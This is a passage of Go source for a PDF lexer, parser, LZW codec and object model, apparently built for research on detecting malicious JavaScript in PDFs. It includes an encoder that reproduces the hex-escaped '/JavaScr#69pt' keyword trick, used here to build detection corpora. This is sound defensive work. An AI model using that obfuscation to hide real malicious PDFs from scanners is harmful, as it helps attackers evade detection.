				}
			}
		case '(':
			depth++
			out = append(out, c)
			l.pos++
		case ')':
			depth--
			if depth == 0 {
				l.pos++
				return Token{Type: TokString, Pos: start, Bytes: out}, nil
			}
			out = append(out, c)
			l.pos++
		default:
			out = append(out, c)
			l.pos++
		}
	}
	return Token{}, fmt.Errorf("%w: unterminated string at %d", ErrLex, start)
}
