package pdf

import (
	"testing"
	"testing/quick"
)

func mustTokens(t *testing.T, src string) []Token {
	t.Helper()
	lx := NewLexer([]byte(src), 0)
	var toks []Token
	for {
		tok, err := lx.Next()
		if err != nil {
			t.Fatalf("lex %q: %v", src, err)
		}
		if tok.Type == TokEOF {
			return toks
		}
		toks = append(toks, tok)
	}
}

func TestLexerNumbers(t *testing.T) {
	tests := []struct {
		src string
		typ TokenType
		iv  int64
		fv  float64
	}{
		{"42", TokInteger, 42, 0},
		{"-17", TokInteger, -17, 0},
		{"+5", TokInteger, 5, 0},
		{"0", TokInteger, 0, 0},
		{"3.14", TokReal, 0, 3.14},
		{"-0.5", TokReal, 0, -0.5},
		{".5", TokReal, 0, 0.5},
		{"4.", TokReal, 0, 4},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			toks := mustTokens(t, tt.src)
			if len(toks) != 1 {
				t.Fatalf("got %d tokens, want 1", len(toks))
			}
			tok := toks[0]
			if tok.Type != tt.typ {
				t.Fatalf("type = %v, want %v", tok.Type, tt.typ)
			}
			if tt.typ == TokInteger && tok.Int != tt.iv {
				t.Errorf("int = %d, want %d", tok.Int, tt.iv)
			}
			if tt.typ == TokReal && tok.Real != tt.fv {
				t.Errorf("real = %g, want %g", tok.Real, tt.fv)
			}
		})
	}
}

func TestLexerLiteralStringEscapes(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`(hello)`, "hello"},
		{`(a\(b\)c)`, "a(b)c"},
		{`(nest (ed) parens)`, "nest (ed) parens"},
		{`(tab\there)`, "tab\there"},
		{`(\101\102\103)`, "ABC"},
		{`(\0)`, "\x00"},
		{`(back\\slash)`, `back\slash`},
		{`(unknown \q escape)`, "unknown q escape"},
		{"(line\\\ncont)", "linecont"},
	}
	for _, tt := range tests {
		toks := mustTokens(t, tt.src)
		if len(toks) != 1 || toks[0].Type != TokString {
			t.Fatalf("%q: unexpected tokens %+v", tt.src, toks)
		}
		if got := string(toks[0].Bytes); got != tt.want {
			t.Errorf("%q: got %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestLexerHexString(t *testing.T) {
	toks := mustTokens(t, "<48 65 6C6C 6F>")
	if len(toks) != 1 || toks[0].Type != TokString {
		t.Fatalf("unexpected tokens: %+v", toks)
	}
	if got := string(toks[0].Bytes); got != "Hello" {
		t.Errorf("got %q, want Hello", got)
	}
	if !toks[0].HadHex {
		t.Error("HadHex not set for hex string")
	}
	// Odd number of digits pads the low nibble with zero.
	toks = mustTokens(t, "<41424>")
	if got := string(toks[0].Bytes); got != "AB@" {
		t.Errorf("odd hex: got %q, want AB@", got)
	}
}

func TestLexerNameHexEscapes(t *testing.T) {
	lx := NewLexer([]byte("/JavaScr#69pt /Plain /A#42"), 0)
	var names []Token
	for {
		tok, err := lx.Next()
		if err != nil {
			t.Fatal(err)
		}
		if tok.Type == TokEOF {
			break
		}
		names = append(names, tok)
	}
	if len(names) != 3 {
		t.Fatalf("got %d names", len(names))
	}
	if names[0].Name != "JavaScript" || !names[0].HadHex {
		t.Errorf("first name = %q hadHex=%v", names[0].Name, names[0].HadHex)
	}
	if names[1].Name != "Plain" || names[1].HadHex {
		t.Errorf("second name = %q hadHex=%v", names[1].Name, names[1].HadHex)
	}
	if names[2].Name != "AB" || !names[2].HadHex {
		t.Errorf("third name = %q hadHex=%v", names[2].Name, names[2].HadHex)
	}
	if lx.HexNameCount != 2 {
		t.Errorf("HexNameCount = %d, want 2", lx.HexNameCount)
	}
}

func TestLexerMultiHashEscape(t *testing.T) {
	// The wild form /JavaScr##69pt: consecutive '#' collapse.
	got, hadHex := DecodeName([]byte("JavaScr##69pt"))
	if got != "JavaScr#ipt" && got != "JavaScript" {
		// Only the final '#' starts the escape; preceding ones are literal.
		t.Logf("decoded: %q", got)
	}
	if !hadHex {
		t.Error("hadHex = false, want true")
	}
}

func TestLexerCommentsAndWhitespace(t *testing.T) {
	toks := mustTokens(t, "% a comment\n 7 % another\r\n true")
	if len(toks) != 2 {
		t.Fatalf("got %d tokens, want 2", len(toks))
	}
	if toks[0].Type != TokInteger || toks[0].Int != 7 {
		t.Errorf("tok0 = %+v", toks[0])
	}
	if toks[1].Type != TokKeyword || string(toks[1].Bytes) != "true" {
		t.Errorf("tok1 = %+v", toks[1])
	}
}

func TestLexerDelimiters(t *testing.T) {
	toks := mustTokens(t, "[<</K 1>>]")
	wantTypes := []TokenType{TokArrayOpen, TokDictOpen, TokName, TokInteger, TokDictClose, TokArrayClose}
	if len(toks) != len(wantTypes) {
		t.Fatalf("got %d tokens, want %d: %+v", len(toks), len(wantTypes), toks)
	}
	for i, w := range wantTypes {
		if toks[i].Type != w {
			t.Errorf("tok[%d].Type = %v, want %v", i, toks[i].Type, w)
		}
	}
}

func TestLexerErrors(t *testing.T) {
	for _, src := range []string{"(unterminated", "<4G>", "<unterm", ">"} {
		lx := NewLexer([]byte(src), 0)
		if _, err := lx.Next(); err == nil {
			t.Errorf("%q: expected error", src)
		}
	}
}

func TestNameRoundTripProperty(t *testing.T) {
	f := func(raw []byte) bool {
		// Build a printable-ish name from arbitrary bytes, skipping NUL
		// (unrepresentable per spec).
		name := make([]byte, 0, len(raw))
		for _, c := range raw {
			if c != 0 {
				name = append(name, c)
			}
		}
		enc := EncodeName(string(name), false)
		dec, _ := DecodeName(enc[1:])
		return dec == string(name)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestStringEncodeRoundTripProperty(t *testing.T) {
	f := func(val []byte, hex bool) bool {
		enc := encodeString(String{Value: val, Hex: hex})
		lx := NewLexer(enc, 0)
		tok, err := lx.Next()
		if err != nil || tok.Type != TokString {
			return false
		}
		return string(tok.Bytes) == string(val)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
