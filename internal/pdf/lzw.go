package pdf

import (
	"fmt"
)

// PDF's LZWDecode is the TIFF variant: MSB-first bit packing, 8-bit
// literals, clear code 256, EOD 257, and "early change" (the code width
// grows one entry before the table actually fills). The stdlib compress/lzw
// does not implement early change, so the codec is written from scratch.

const (
	lzwClear    = 256
	lzwEOD      = 257
	lzwFirst    = 258
	lzwMaxWidth = 12
)

type bitReader struct {
	data []byte
	pos  int // bit position
}

func (br *bitReader) read(width int) (int, bool) {
	v := 0
	for i := 0; i < width; i++ {
		byteIdx := br.pos >> 3
		if byteIdx >= len(br.data) {
			return 0, false
		}
		bit := (br.data[byteIdx] >> (7 - uint(br.pos&7))) & 1
		v = v<<1 | int(bit)
		br.pos++
	}
	return v, true
}

type bitWriter struct {
	out []byte
	cur byte
	n   int
}

func (bw *bitWriter) write(code, width int) {
	for i := width - 1; i >= 0; i-- {
		bit := byte((code >> uint(i)) & 1)
		bw.cur = bw.cur<<1 | bit
		bw.n++
		if bw.n == 8 {
			bw.out = append(bw.out, bw.cur)
			bw.cur, bw.n = 0, 0
		}
	}
}

func (bw *bitWriter) flush() {
	if bw.n > 0 {
		bw.out = append(bw.out, bw.cur<<(8-uint(bw.n)))
		bw.cur, bw.n = 0, 0
	}
}

func lzwDecode(data []byte) ([]byte, error) {
	br := &bitReader{data: data}
	out := make([]byte, 0, len(data)*3)

	var table [][]byte
	reset := func() {
		table = table[:0]
		for i := 0; i < 256; i++ {
			table = append(table, []byte{byte(i)})
		}
		table = append(table, nil, nil) // clear, EOD placeholders
	}
	reset()
	width := 9
	var prev []byte

	for {
		code, ok := br.read(width)
		if !ok {
			// Streams missing an explicit EOD are accepted leniently.
			return out, nil
		}
		switch {
		case code == lzwClear:
			reset()
			width = 9
			prev = nil
			continue
		case code == lzwEOD:
			return out, nil
		}

		var entry []byte
		switch {
		case code < len(table) && table[code] != nil:
			entry = table[code]
		case code == len(table) && prev != nil:
			entry = append(append([]byte{}, prev...), prev[0])
		default:
			return nil, fmt.Errorf("%w: lzw: invalid code %d (table %d)", ErrFilter, code, len(table))
		}
		out = append(out, entry...)
		if len(out) > maxDecodedSize {
			return nil, fmt.Errorf("%w: lzw output exceeds %d bytes", ErrFilter, maxDecodedSize)
		}
		if prev != nil {
			ne := append(append(make([]byte, 0, len(prev)+1), prev...), entry[0])
			table = append(table, ne)
			// Early change with the standard decoder lag: the decoder's
			// table is one entry behind the encoder's, so it widens at
			// 2^width-2 where the encoder widens at 2^width-1.
			if len(table) >= (1<<uint(width))-2 && width < lzwMaxWidth {
				width++
			}
		}
		prev = entry
	}
}

func lzwEncode(data []byte) ([]byte, error) {
	bw := &bitWriter{out: make([]byte, 0, len(data)/2+8)}

	dict := make(map[string]int, 4096)
	reset := func() {
		for k := range dict {
			delete(dict, k)
		}
		for i := 0; i < 256; i++ {
			dict[string([]byte{byte(i)})] = i
		}
	}
	reset()
	next := lzwFirst
	width := 9

	bw.write(lzwClear, width)
	var cur []byte
	for _, c := range data {
		ext := append(cur, c)
		if _, ok := dict[string(ext)]; ok {
			cur = ext
			continue
		}
		bw.write(dict[string(cur)], width)
		dict[string(ext)] = next
		next++
		// Early change, mirroring the decoder: widen one entry before the
		// table fills; clear before code 4095 would be assigned.
		switch {
		case next >= (1<<lzwMaxWidth)-1:
			bw.write(lzwClear, width)
			reset()
			next = lzwFirst
			width = 9
		case next >= (1<<uint(width))-1:
			width++
		}
		cur = []byte{c}
	}
	if len(cur) > 0 {
		bw.write(dict[string(cur)], width)
		// The decoder grows its table after every code, including the last
		// data code, so account for that phantom entry before choosing the
		// EOD width.
		next++
		if next >= (1<<uint(width))-1 && width < lzwMaxWidth {
			width++
		}
	}
	bw.write(lzwEOD, width)
	bw.flush()
	return bw.out, nil
}
