package pdf

import (
	"fmt"
)

// isRegular reports whether c is a PDF "regular" character: not whitespace
// and not a delimiter.
func isRegular(c byte) bool {
	return !isWhitespace(c) && !isDelimiter(c)
}

func isWhitespace(c byte) bool {
	switch c {
	case 0x00, 0x09, 0x0a, 0x0c, 0x0d, 0x20:
		return true
	}
	return false
}

func isDelimiter(c byte) bool {
	switch c {
	case '(', ')', '<', '>', '[', ']', '{', '}', '/', '%':
		return true
	}
	return false
}

func hexVal(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	}
	return 0, false
}

// DecodeName decodes the body of a PDF name token (without the leading
// slash). PDF allows any character other than NUL to be written as #xx; the
// paper's static feature F3 counts names that actually use such escapes, so
// the second return value reports whether at least one valid escape was seen.
//
// The PDF spec allows a sequence of one or more '#' before the two hex
// digits in the obfuscated wild (e.g. /JavaScr##69pt); consecutive '#'
// collapse so that only the final one starts the escape.
func DecodeName(raw []byte) (decoded string, hadHex bool) {
	out := make([]byte, 0, len(raw))
	for i := 0; i < len(raw); i++ {
		c := raw[i]
		if c != '#' {
			out = append(out, c)
			continue
		}
		// Collapse runs of '#': only the last one can begin an escape.
		j := i
		for j+1 < len(raw) && raw[j+1] == '#' {
			j++
		}
		if j+2 < len(raw) {
			hi, ok1 := hexVal(raw[j+1])
			lo, ok2 := hexVal(raw[j+2])
			if ok1 && ok2 && (hi<<4|lo) != 0 {
				out = append(out, hi<<4|lo)
				hadHex = true
				i = j + 2
				continue
			}
		}
		// Not a valid escape: literal '#'s.
		for k := i; k <= j; k++ {
			out = append(out, '#')
		}
		i = j
	}
	return string(out), hadHex
}

// EncodeName renders a decoded name in PDF syntax including the leading
// slash. When obfuscate is true, alphabetic characters are probabilistically
// hex-escaped by the corpus generator through EncodeNameObfuscated instead;
// here obfuscate=true escapes nothing extra but is kept for symmetry.
func EncodeName(name string, obfuscate bool) []byte {
	_ = obfuscate
	out := make([]byte, 0, len(name)+1)
	out = append(out, '/')
	for i := 0; i < len(name); i++ {
		c := name[i]
		if c == '#' || !isRegular(c) || c < 0x21 || c > 0x7e {
			out = append(out, []byte(fmt.Sprintf("#%02x", c))...)
			continue
		}
		out = append(out, c)
	}
	return out
}

// EncodeNameObfuscated renders a name with the characters at the given
// offsets hex-escaped, reproducing the /JavaScr#69pt trick used by malicious
// documents. Offsets outside the name are ignored. extraHashes prepends that
// many additional '#' characters before each escape (some samples in the
// wild use "##69").
func EncodeNameObfuscated(name string, offsets []int, extraHashes int) []byte {
	esc := make(map[int]bool, len(offsets))
	for _, off := range offsets {
		if off >= 0 && off < len(name) {
			esc[off] = true
		}
	}
	out := make([]byte, 0, len(name)*2)
	out = append(out, '/')
	for i := 0; i < len(name); i++ {
		c := name[i]
		if esc[i] && c != 0 {
			for h := 0; h < extraHashes; h++ {
				out = append(out, '#')
			}
			out = append(out, []byte(fmt.Sprintf("#%02x", c))...)
			continue
		}
		if c == '#' || !isRegular(c) || c < 0x21 || c > 0x7e {
			out = append(out, []byte(fmt.Sprintf("#%02x", c))...)
			continue
		}
		out = append(out, c)
	}
	return out
}
