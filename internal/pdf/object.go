// Package pdf implements a from-scratch PDF object model, lexer, parser,
// writer, and the stream filters needed by the front-end of the system
// described in "Detecting Malicious Javascript in PDF through Document
// Instrumentation" (DSN 2014).
//
// The package is deliberately tolerant: malicious documents in the wild are
// frequently malformed, so the parser has both a strict xref-driven mode and
// a lenient scavenging mode that recovers indirect objects by scanning for
// "N G obj" markers, mirroring the behaviour of real readers.
package pdf

import (
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"
)

// Object is the interface implemented by every PDF object kind.
//
// The concrete kinds are Null, Boolean, Integer, Real, String, Name, Array,
// Dict, Ref and Stream. All are value types except Stream and Dict (Dict is
// a map). Callers that need to mutate shared structure should Clone first.
type Object interface {
	// Kind reports the object kind, mostly useful for diagnostics.
	Kind() Kind
}

// Kind enumerates PDF object kinds.
type Kind int

// Object kinds. Following the style guide, the enum starts at one so the
// zero value is distinguishable as "no kind".
const (
	KindNull Kind = iota + 1
	KindBoolean
	KindInteger
	KindReal
	KindString
	KindName
	KindArray
	KindDict
	KindStream
	KindRef
)

var kindNames = map[Kind]string{
	KindNull:    "null",
	KindBoolean: "boolean",
	KindInteger: "integer",
	KindReal:    "real",
	KindString:  "string",
	KindName:    "name",
	KindArray:   "array",
	KindDict:    "dict",
	KindStream:  "stream",
	KindRef:     "ref",
}

func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return "kind(" + strconv.Itoa(int(k)) + ")"
}

// Null is the PDF null object.
type Null struct{}

// Kind implements Object.
func (Null) Kind() Kind { return KindNull }

// Boolean is a PDF boolean.
type Boolean bool

// Kind implements Object.
func (Boolean) Kind() Kind { return KindBoolean }

// Integer is a PDF integer.
type Integer int64

// Kind implements Object.
func (Integer) Kind() Kind { return KindInteger }

// Real is a PDF real number.
type Real float64

// Kind implements Object.
func (Real) Kind() Kind { return KindReal }

// String is a PDF string object. Value holds the decoded bytes; Hex records
// whether the source used hexadecimal <...> syntax, which the writer
// preserves so instrumented documents stay close to their original form.
type String struct {
	Value []byte
	Hex   bool
}

// Kind implements Object.
func (String) Kind() Kind { return KindString }

// Text returns the string bytes as a Go string.
func (s String) Text() string { return string(s.Value) }

// Name is a PDF name object with all #xx escapes already decoded.
// Use NameHadHex (tracked by the parser per document) for the static
// feature that counts hex-obfuscated keywords.
type Name string

// Kind implements Object.
func (Name) Kind() Kind { return KindName }

// Array is a PDF array.
type Array []Object

// Kind implements Object.
func (Array) Kind() Kind { return KindArray }

// Dict is a PDF dictionary. Keys are decoded names.
type Dict map[Name]Object

// Kind implements Object.
func (Dict) Kind() Kind { return KindDict }

// Get returns the value for key, or nil when absent.
func (d Dict) Get(key Name) Object {
	if d == nil {
		return nil
	}
	return d[key]
}

// SortedKeys returns the dictionary keys in lexical order so that
// serialization is deterministic.
func (d Dict) SortedKeys() []Name {
	keys := make([]Name, 0, len(d))
	for k := range d {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	return keys
}

// Clone returns a shallow copy of the dictionary.
func (d Dict) Clone() Dict {
	out := make(Dict, len(d))
	for k, v := range d {
		out[k] = v
	}
	return out
}

// Ref is an indirect reference "N G R".
type Ref struct {
	Num int
	Gen int
}

// Kind implements Object.
func (Ref) Kind() Kind { return KindRef }

func (r Ref) String() string {
	return strconv.Itoa(r.Num) + " " + strconv.Itoa(r.Gen) + " R"
}

// Stream is a PDF stream: a dictionary plus raw (still encoded) bytes.
type Stream struct {
	Dict Dict
	// Raw holds the bytes exactly as stored in the file, i.e. after any
	// /Filter encodings have been applied.
	Raw []byte
}

// Kind implements Object.
func (*Stream) Kind() Kind { return KindStream }

// Filters returns the filter chain declared in the stream dictionary, outermost
// first (the order in which Decode must run).
func (s *Stream) Filters() []Name {
	return filterNames(s.Dict.Get("Filter"))
}

func filterNames(obj Object) []Name {
	switch v := obj.(type) {
	case Name:
		return []Name{v}
	case Array:
		out := make([]Name, 0, len(v))
		for _, el := range v {
			if n, ok := el.(Name); ok {
				out = append(out, n)
			}
		}
		return out
	default:
		return nil
	}
}

// IndirectObject pairs an object number with its body.
type IndirectObject struct {
	Num    int
	Gen    int
	Object Object
}

// Ref returns the reference that points at the indirect object.
func (io IndirectObject) Ref() Ref { return Ref{Num: io.Num, Gen: io.Gen} }

// FormatObject renders an object in PDF syntax. It is primarily a debugging
// and test aid; the Writer is the canonical serializer.
func FormatObject(obj Object) string {
	var b strings.Builder
	writeObjectTo(&b, obj)
	return b.String()
}

func writeObjectTo(b *strings.Builder, obj Object) {
	switch v := obj.(type) {
	case nil, Null:
		b.WriteString("null")
	case Boolean:
		if v {
			b.WriteString("true")
		} else {
			b.WriteString("false")
		}
	case Integer:
		b.WriteString(strconv.FormatInt(int64(v), 10))
	case Real:
		b.WriteString(formatReal(float64(v)))
	case String:
		b.Write(encodeString(v))
	case Name:
		b.Write(EncodeName(string(v), false))
	case Array:
		b.WriteByte('[')
		for i, el := range v {
			if i > 0 {
				b.WriteByte(' ')
			}
			writeObjectTo(b, el)
		}
		b.WriteByte(']')
	case Dict:
		writeDictTo(b, v)
	case *Stream:
		writeDictTo(b, v.Dict)
		b.WriteString(" stream...endstream")
	case Ref:
		b.WriteString(v.String())
	default:
		fmt.Fprintf(b, "?%T?", obj)
	}
}

func writeDictTo(b *strings.Builder, d Dict) {
	b.WriteString("<<")
	for i, k := range d.SortedKeys() {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.Write(EncodeName(string(k), false))
		b.WriteByte(' ')
		writeObjectTo(b, d[k])
	}
	b.WriteString(">>")
}

// formatReal renders a real the way PDF expects: plain decimal, no exponent.
func formatReal(f float64) string {
	if math.IsInf(f, 0) || math.IsNaN(f) {
		return "0"
	}
	s := strconv.FormatFloat(f, 'f', -1, 64)
	return s
}

// encodeString renders a PDF string literal. Hex strings use <..> syntax,
// literal strings escape the PDF delimiter set.
func encodeString(s String) []byte {
	if s.Hex {
		const hexdig = "0123456789abcdef"
		out := make([]byte, 0, len(s.Value)*2+2)
		out = append(out, '<')
		for _, c := range s.Value {
			out = append(out, hexdig[c>>4], hexdig[c&0xf])
		}
		out = append(out, '>')
		return out
	}
	out := make([]byte, 0, len(s.Value)+2)
	out = append(out, '(')
	for _, c := range s.Value {
		switch c {
		case '(', ')', '\\':
			out = append(out, '\\', c)
		case '\n':
			out = append(out, '\\', 'n')
		case '\r':
			out = append(out, '\\', 'r')
		case '\t':
			out = append(out, '\\', 't')
		default:
			out = append(out, c)
		}
	}
	out = append(out, ')')
	return out
}

// IsJavaScriptKey reports whether a dictionary key marks Javascript content
// per the paper's chain-location step (/JS and /JavaScript).
func IsJavaScriptKey(n Name) bool { return n == "JS" || n == "JavaScript" }

// TriggerKeys are the dictionary keys whose presence associates a chain with
// a triggering action; only chains reachable from these are instrumented.
var TriggerKeys = []Name{"OpenAction", "AA", "Names", "Next"}
