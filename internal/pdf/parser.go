package pdf

import (
	"bytes"
	"errors"
	"fmt"
	"strconv"
)

// ErrParse is wrapped by all parser errors.
var ErrParse = errors.New("pdf parse error")

// headerSearchWindow is how far into the file a %PDF- header may legally
// appear (PDF spec: within the first 1024 bytes).
const headerSearchWindow = 1024

// HeaderInfo records what the parser learned about the file header; it
// feeds static feature F2 (header obfuscation).
type HeaderInfo struct {
	// Offset is the byte offset of "%PDF-", or -1 when absent.
	Offset int
	// Version is the textual version after "%PDF-" (e.g. "1.7").
	Version string
	// ValidVersion reports whether Version parses as a plausible PDF
	// version (major 1-2, minor 0-9).
	ValidVersion bool
}

// Obfuscated reports whether the header would count as obfuscated under the
// paper's F2 definition: missing, not at offset zero, or carrying an invalid
// version number.
func (h HeaderInfo) Obfuscated() bool {
	return h.Offset != 0 || !h.ValidVersion
}

// Parser parses a whole PDF file from memory.
type Parser struct {
	src    []byte
	lex    *Lexer
	doc    *Document
	strict bool
}

// ParseOptions tunes parsing behaviour.
type ParseOptions struct {
	// Strict disables the lenient object-scavenging fallback.
	Strict bool
}

// Parse parses src into a Document. Malformed files are recovered via a
// lenient scan unless opts.Strict is set.
func Parse(src []byte, opts ParseOptions) (*Document, error) {
	p := &Parser{
		src:    src,
		lex:    NewLexer(src, 0),
		strict: opts.Strict,
		doc:    newDocument(src),
	}
	p.doc.Header = parseHeader(src)

	xrefErr := p.parseViaXref()
	if xrefErr == nil && len(p.doc.objects) > 0 {
		p.doc.HexNameCount = p.lex.HexNameCount
		return p.doc, nil
	}
	if p.strict {
		if xrefErr == nil {
			xrefErr = fmt.Errorf("%w: no objects", ErrParse)
		}
		return nil, xrefErr
	}
	// Lenient mode: scavenge "N G obj" markers the way real readers do with
	// damaged or deliberately malformed documents.
	if err := p.scavenge(); err != nil {
		return nil, err
	}
	if len(p.doc.objects) == 0 {
		return nil, fmt.Errorf("%w: no indirect objects found", ErrParse)
	}
	p.doc.Recovered = true
	p.doc.HexNameCount = p.lex.HexNameCount
	return p.doc, nil
}

func parseHeader(src []byte) HeaderInfo {
	info := HeaderInfo{Offset: -1}
	window := src
	if len(window) > headerSearchWindow {
		window = window[:headerSearchWindow]
	}
	idx := bytes.Index(window, []byte("%PDF-"))
	if idx < 0 {
		return info
	}
	info.Offset = idx
	rest := src[idx+5:]
	end := 0
	for end < len(rest) && end < 8 && !isWhitespace(rest[end]) && rest[end] != '%' {
		end++
	}
	info.Version = string(rest[:end])
	info.ValidVersion = validVersion(info.Version)
	return info
}

func validVersion(v string) bool {
	if len(v) != 3 || v[1] != '.' {
		return false
	}
	major := v[0]
	minor := v[2]
	if major != '1' && major != '2' {
		return false
	}
	return minor >= '0' && minor <= '9'
}

// parseViaXref resolves startxref, walks the xref chain, and parses each
// referenced object.
func (p *Parser) parseViaXref() error {
	start, err := findStartXref(p.src)
	if err != nil {
		return err
	}
	offsets := make(map[int]int) // object num -> byte offset (first xref wins)
	seen := make(map[int]bool)
	for start >= 0 {
		if seen[start] {
			return fmt.Errorf("%w: xref loop at offset %d", ErrParse, start)
		}
		seen[start] = true
		trailer, prev, err := p.parseXrefSection(start, offsets)
		if err != nil {
			return err
		}
		if p.doc.Trailer == nil {
			p.doc.Trailer = trailer
		}
		start = prev
	}
	budget := newParseBudget(len(p.src))
	for num, off := range offsets {
		if off <= 0 || off >= len(p.src) {
			continue
		}
		if budget.exhausted() {
			// A hostile xref can point millions of entries at overlapping
			// unterminated objects, each of which scans to EOF before
			// failing; once the cumulative work bound is hit, stop taking
			// the document's word for where objects live.
			break
		}
		obj, err := p.parseIndirectAt(off, budget)
		if err != nil {
			// Tolerate individual broken entries; the scavenger exists for
			// documents where everything is broken.
			continue
		}
		if obj.Num != num {
			// Wrong offset for this entry; still index by actual number.
		}
		p.doc.put(obj)
	}
	if p.doc.Trailer == nil {
		return fmt.Errorf("%w: missing trailer", ErrParse)
	}
	return nil
}

func findStartXref(src []byte) (int, error) {
	tail := src
	const window = 2048
	if len(tail) > window {
		tail = tail[len(tail)-window:]
	}
	idx := bytes.LastIndex(tail, []byte("startxref"))
	if idx < 0 {
		return 0, fmt.Errorf("%w: startxref not found", ErrParse)
	}
	base := len(src) - len(tail)
	lx := NewLexer(src, base+idx)
	tok, err := lx.Next() // "startxref"
	if err != nil || tok.Type != TokKeyword {
		return 0, fmt.Errorf("%w: malformed startxref", ErrParse)
	}
	tok, err = lx.Next()
	if err != nil || tok.Type != TokInteger {
		return 0, fmt.Errorf("%w: startxref offset missing", ErrParse)
	}
	return int(tok.Int), nil
}

// parseXrefSection parses a classic xref table plus trailer at off. It
// returns the trailer dictionary and the /Prev offset (-1 when absent).
func (p *Parser) parseXrefSection(off int, offsets map[int]int) (Dict, int, error) {
	if off < 0 || off >= len(p.src) {
		return nil, -1, fmt.Errorf("%w: xref offset %d out of range", ErrParse, off)
	}
	lx := NewLexer(p.src, off)
	tok, err := lx.Next()
	if err != nil {
		return nil, -1, err
	}
	if tok.Type != TokKeyword || string(tok.Bytes) != "xref" {
		return nil, -1, fmt.Errorf("%w: expected xref at %d", ErrParse, off)
	}
	for {
		tok, err = lx.Next()
		if err != nil {
			return nil, -1, err
		}
		if tok.Type == TokKeyword && string(tok.Bytes) == "trailer" {
			break
		}
		if tok.Type != TokInteger {
			return nil, -1, fmt.Errorf("%w: malformed xref subsection at %d", ErrParse, tok.Pos)
		}
		first := int(tok.Int)
		tok, err = lx.Next()
		if err != nil || tok.Type != TokInteger {
			return nil, -1, fmt.Errorf("%w: malformed xref count", ErrParse)
		}
		count := int(tok.Int)
		if count < 0 || count > 1<<22 {
			return nil, -1, fmt.Errorf("%w: unreasonable xref count %d", ErrParse, count)
		}
		for i := 0; i < count; i++ {
			offTok, err := lx.Next()
			if err != nil || offTok.Type != TokInteger {
				return nil, -1, fmt.Errorf("%w: malformed xref entry", ErrParse)
			}
			genTok, err := lx.Next()
			if err != nil || genTok.Type != TokInteger {
				return nil, -1, fmt.Errorf("%w: malformed xref entry gen", ErrParse)
			}
			kindTok, err := lx.Next()
			if err != nil || kindTok.Type != TokKeyword {
				return nil, -1, fmt.Errorf("%w: malformed xref entry kind", ErrParse)
			}
			kind := string(kindTok.Bytes)
			num := first + i
			if kind == "n" {
				if _, exists := offsets[num]; !exists {
					offsets[num] = int(offTok.Int)
				}
			}
		}
	}
	op := &objParser{lex: lx, doc: p.doc}
	trailerObj, err := op.parseObject(0)
	if err != nil {
		return nil, -1, err
	}
	trailer, ok := trailerObj.(Dict)
	if !ok {
		return nil, -1, fmt.Errorf("%w: trailer is %s, want dict", ErrParse, trailerObj.Kind())
	}
	prev := -1
	if pv, ok := trailer.Get("Prev").(Integer); ok {
		prev = int(pv)
	}
	return trailer, prev, nil
}

// parseBudget bounds the total lexing work spent on speculative object
// parses (xref-directed and scavenged). Overlapping unterminated objects
// make each failed attempt scan toward EOF, so without a cumulative bound a
// crafted document costs O(markers × filesize) — minutes of CPU for 1 MB of
// input. The budget is a generous multiple of the file size: real damaged
// documents parse nearly disjoint ranges and never approach it.
type parseBudget struct {
	remaining int
}

func newParseBudget(srcLen int) *parseBudget {
	return &parseBudget{remaining: 64*srcLen + 1<<16}
}

func (b *parseBudget) exhausted() bool { return b != nil && b.remaining <= 0 }

func (b *parseBudget) spend(n int) {
	if b != nil && n > 0 {
		b.remaining -= n
	}
}

// parseIndirectAt parses "N G obj ... endobj" at the given offset. The
// work spent is charged against budget (nil = unbounded), including work
// spent on attempts that fail partway.
func (p *Parser) parseIndirectAt(off int, budget *parseBudget) (IndirectObject, error) {
	lx := NewLexer(p.src, off)
	// Share hex-name accounting with the document-level lexer; charge the
	// bytes this attempt advanced over, success or failure.
	defer func() {
		p.lex.HexNameCount += lx.HexNameCount
		budget.spend(lx.Pos() - off)
	}()

	numTok, err := lx.Next()
	if err != nil || numTok.Type != TokInteger {
		return IndirectObject{}, fmt.Errorf("%w: expected object number at %d", ErrParse, off)
	}
	genTok, err := lx.Next()
	if err != nil || genTok.Type != TokInteger {
		return IndirectObject{}, fmt.Errorf("%w: expected generation at %d", ErrParse, off)
	}
	kw, err := lx.Next()
	if err != nil || kw.Type != TokKeyword || string(kw.Bytes) != "obj" {
		return IndirectObject{}, fmt.Errorf("%w: expected 'obj' at %d", ErrParse, off)
	}
	op := &objParser{lex: lx, doc: p.doc}
	body, err := op.parseObject(0)
	if err != nil {
		return IndirectObject{}, err
	}
	// A dict may be followed by a stream.
	if d, ok := body.(Dict); ok {
		save := lx.Pos()
		tok, err := lx.Next()
		if err == nil && tok.Type == TokKeyword && string(tok.Bytes) == "stream" {
			raw, err := readStreamBody(lx, d)
			if err != nil {
				return IndirectObject{}, err
			}
			body = &Stream{Dict: d, Raw: raw}
		} else {
			lx.SetPos(save)
		}
	}
	return IndirectObject{Num: int(numTok.Int), Gen: int(genTok.Int), Object: body}, nil
}

// readStreamBody consumes the bytes between "stream" and "endstream". The
// /Length entry is honoured when it is a direct integer that lands on a
// plausible endstream; otherwise the parser falls back to searching for the
// endstream keyword (hostile documents routinely lie about /Length).
func readStreamBody(lx *Lexer, d Dict) ([]byte, error) {
	src := lx.Src()
	pos := lx.Pos()
	// Per spec, "stream" is followed by CRLF or LF.
	if pos < len(src) && src[pos] == '\r' {
		pos++
	}
	if pos < len(src) && src[pos] == '\n' {
		pos++
	}
	if n, ok := d.Get("Length").(Integer); ok {
		end := pos + int(n)
		if end >= pos && end <= len(src) {
			rest := src[end:]
			trimmed := 0
			for trimmed < len(rest) && isWhitespace(rest[trimmed]) {
				trimmed++
			}
			if bytes.HasPrefix(rest[trimmed:], []byte("endstream")) {
